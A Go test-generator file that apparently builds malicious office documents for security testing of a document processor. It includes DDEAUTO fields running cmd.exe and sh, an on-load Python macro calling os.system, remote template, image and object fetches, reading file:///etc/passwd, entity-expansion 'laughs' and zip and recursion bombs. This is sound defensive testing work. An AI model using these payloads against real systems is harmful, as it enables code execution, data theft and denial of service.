package torture

import (
	"archive/zip"
	"bytes"
	"fmt"
	"strings"
)

func stored(h *zip.FileHeader) { h.Method = zip.Store }

const officeRels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`

// docx is a small document; more goes into its body.
func docx(more string, extra ...entry) []byte {
	return docxOf(`<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>Sehr geehrte Damen und Herren, der Antrag wird bewilligt.</w:t></w:r></w:p>`+more+`</w:body></w:document>`, extra...)
}

func docxOf(document string, extra ...entry) []byte {
	return zipped(append([]entry{
		{name: "[Content_Types].xml", body: []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`)},
		{name: "_rels/.rels", body: []byte(officeRels + `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`)},
		{name: "word/document.xml", body: []byte(document)}}, extra...)...)
}

func odt(content string, extra ...entry) []byte {
	return zipped(append([]entry{{name: "mimetype", body: []byte("application/vnd.oasis.opendocument.text"), edit: stored},
		{name: "META-INF/manifest.xml", body: []byte(`<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`)},
		{name: "content.xml", body: []byte(content)}}, extra...)...)
}

const odtHead = `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.2">`

// office makes documents of word processors and tables that fetch, run and grow.
func (m *maker) office() {
	const family = "active: office"
	u := m.URL
	rel := func(kind, target string) entry {
		return entry{name: "word/_rels/document.xml.rels", body: []byte(officeRels + `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `" TargetMode="External"/></Relationships>`)}
	}
	for _, kind := range []string{"image", "attachedTemplate", "oleObject", "frame", "hyperlink", "subDocument", "aFChunk"} {
		m.heavy(family, "DOCX, "+kind+" of elsewhere", func() []byte {
			return docx(`<w:altChunk r:id="r1"/><w:subDoc r:id="r1"/><w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt"><v:imagedata r:id="r1"/></v:shape></w:pict></w:r></w:p>`, rel(kind, u+kind))
		})
	}
	field := func(code string) string {
		return `<w:p><w:fldSimple w:instr="` + code + `"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`
	}
	m.heavy(family, "DOCX, fields", func() []byte {
		return docx(field(`INCLUDEPICTURE &quot;`+u+`inc&quot; \d`) + field(`DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k `+m.Canary+`&quot;`) + field(`INCLUDETEXT &quot;file:///etc/passwd&quot;`))
	})
	m.heavy(family, "DOCX that laughs", func() []byte { return docxOf(entities("w:document", u)) })
	m.heavy(family, "DOCX with macros", func() []byte { return docx("", entry{name: "word/vbaProject.bin", body: compound()}) })
	m.heavy(family, "ODT, pictures and frames of elsewhere", func() []byte {
		return odt(odtHead+`<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:x.py$go?language=Python&amp;location=document"/></office:event-listeners></office:scripts><office:body><office:text><text:p>Sehr geehrte Damen und Herren<draw:frame draw:name="a"><draw:image xlink:href="`+u+`odt.png" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame><draw:frame><draw:floating-frame xlink:href="`+u+`frame" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p><text:section text:name="s"><text:section-source xlink:href="`+u+`section.odt"/></text:section></office:text></office:body></office:document-content>`,
			entry{name: "Scripts/python/x.py", body: []byte("import os\ndef go(*a): os.system('touch " + m.Canary + "')\n")})
	})
	m.heavy(family, "ODT that laughs", func() []byte { return odt(entities("office:document-content", u)) })
	m.heavy(family, "flat ODT", func() []byte {
		return []byte(strings.Replace(strings.ReplaceAll(odtHead, "document-content", "document"), "office:version", `office:mimetype="application/vnd.oasis.opendocument.text" office:version`, 1) + `<office:body><office:text><text:p>Guten Tag<draw:frame><draw:image xlink:href="` + u + `flat.png"/></draw:frame></text:p></office:text></office:body></office:document>`)
	})
	for label, s := range inOrder(map[string]string{"picture of elsewhere": `{\field{\*\fldinst INCLUDEPICTURE "` + u + `rtf.png" \\d}{\fldrslt x}}`, "template of elsewhere": `{\*\template ` + u + `t.dot}`, "object": `{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 0105000002000000}}`,
		"DDE": `{\field{\*\fldinst DDEAUTO "sh" "` + m.Canary + `"}}`, "binary without end": `\bin2147483647 xx`, "hex without end": `{\pict\pngblip ` + strings.Repeat("ff", 100_000), "picture of 2³¹": `{\pict\picw2147483647\pich2147483647\wmetafile8 00}`, "200,000 tables": strings.Repeat(`\trowd\cellx1\cell\row`, 20_000)}) {
		m.heavy(family, "RTF, "+label, func() []byte {
			return []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0 Sehr geehrte Damen und Herren, der Antrag wird bewilligt.\par ` + s + `}`)
		})
	}
	m.heavy(family, "RTF 100,000 deep", func() []byte { return []byte(`{\rtf1 ` + strings.Repeat("{", 100_000)) })
	bomb := "office: bombs"
	m.heavy(bomb, "DOCX of 256 MB", func() []byte { return docxOf("", entry{name: "word/media/a.xml", body: make([]byte, 256*mib)}) })
	m.heavy(bomb, "DOCX, document of 100 MB of paragraphs", func() []byte {
		return docxOf("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>" + strings.Repeat("<w:p><w:r><w:t>Wort</w:t></w:r></w:p>", 100*mib/38) + "</w:body></w:document>")
	})
	m.heavy(bomb, "DOCX, tables 5,000 deep", func() []byte { return docx(deep("<w:tbl><w:tr><w:tc>", "<w:p/>", "</w:tc></w:tr></w:tbl>", 5000)) })
	m.heavy(bomb, "DOCX, 20,000 page breaks", func() []byte { return docx(strings.Repeat(`<w:p><w:r><w:br w:type="page"/></w:r></w:p>`, 20_000)) })
	m.heavy(bomb, "DOCX, elements 1,000,000 deep", func() []byte { return docxOf("<a>" + strings.Repeat("<a>", 1_000_000)) })
	m.heavy(bomb, "DOCX locked", func() []byte {
		return compoundOf(func(_ []uint32, d []byte) {
			copy(d[128:], "E\x00n\x00c\x00r\x00y\x00p\x00t\x00e\x00d\x00P\x00a\x00c\x00k\x00a\x00g\x00e\x00\x00\x00")
		})
	})
	m.heavy(bomb, "XLSX of 16,384 columns by 1,048,576 rows", func() []byte { return xlsx(`<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`) })
	m.heavy(bomb, "XLSX that computes without end", func() []byte {
		return xlsx(`<row r="1"><c r="A1"><f>WEBSERVICE("` + u + `xlsx")+A1</f></c><c r="B1"><f>SUM(A1:XFD1048576)*REPT("x",1E9)</f></c></row>`)
	})
	m.heavy(bomb, "XLSX of 200,000 rows", func() []byte {
		return xlsx(func() string {
			var b bytes.Buffer
			for i := range 200_000 {
				fmt.Fprintf(&b, `<row r="%d"><c r="A%d"><v>%d</v></c></row>`, i+1, i+1, i)
			}
			return b.String()
		}())
	})
}

func xlsx(rows string) []byte {
	return zipped(entry{name: "[Content_Types].xml", body: []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`)},
		entry{name: "_rels/.rels", body: []byte(officeRels + `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`)},
		entry{name: "xl/workbook.xml", body: []byte(`<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`)},
		entry{name: "xl/_rels/workbook.xml.rels", body: []byte(officeRels + `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`)},
		entry{name: "xl/worksheets/sheet1.xml", body: []byte(`<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + rows + `</sheetData></worksheet>`)})
}
